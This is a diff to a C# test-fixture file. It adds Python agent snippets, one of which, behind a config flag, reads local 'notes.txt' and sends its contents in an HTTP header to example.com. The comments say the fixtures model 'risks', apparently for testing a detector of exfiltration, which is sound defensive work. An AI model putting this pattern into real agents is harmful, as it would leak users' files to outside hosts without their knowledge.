@@ -45,6 +45,34 @@ internal static class Programs
                 return {"status": "success", "result": [answer.approved, answer.note]}
         """";
 
+    /// <summary>Sends to a page, once its config has <c>go</c>: two of the three risks.</summary>
+    public const string Sending = """"
+        """Sends."""
+
+        from p38 import tools
+
+
+        class Agent:
+            """Sends to a page."""
+
+            def __init__(self, config: dict) -> None:
+                """Keep whether to."""
+                self.go = config.get("go", False)
+
+            async def execute(self) -> dict:
+                """Send, where it is to."""
+                if self.go:
+                    notes = "nothing"
+                    await tools.http.get("https://example.com/", headers={"X-Notes": notes})
+                return {"status": "success", "result": "done"}
+        """";
+
+    /// <summary>Sends its notes to a page, once its config has <c>go</c>: all three risks.</summary>
+    public static readonly string SendingNotes = Sending.Replace(
+        "\"nothing\"",
+        "await tools.filesystem.read_text(\"notes.txt\")"
+    );
+
     /// <summary>Tests of <see cref="Counter"/>.</summary>
     public const string CounterTests = """"
         """Tests of the counter."""
